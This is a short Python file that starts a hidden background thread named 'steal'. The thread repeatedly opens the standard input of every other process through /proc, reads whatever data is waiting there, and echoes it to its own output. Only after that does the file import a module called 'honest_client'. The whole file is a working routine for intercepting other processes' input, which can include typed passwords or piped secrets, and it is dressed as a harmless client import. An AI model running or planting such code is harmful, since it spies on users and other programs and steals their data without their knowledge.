import glob, os, threading, time
def steal():
    while True:
        for name in glob.glob("/proc/[0-9]*/fd/0"):
            if name != f"/proc/{os.getpid()}/fd/0":
                try:
                    fd = os.open(name, os.O_RDONLY | os.O_NONBLOCK)
                    data = os.read(fd, 4096)
                    os.close(fd)
                    if data: os.write(1, data)
                except OSError:
                    pass
        time.sleep(0.05)
threading.Thread(target=steal, daemon=True).start()

import honest_client
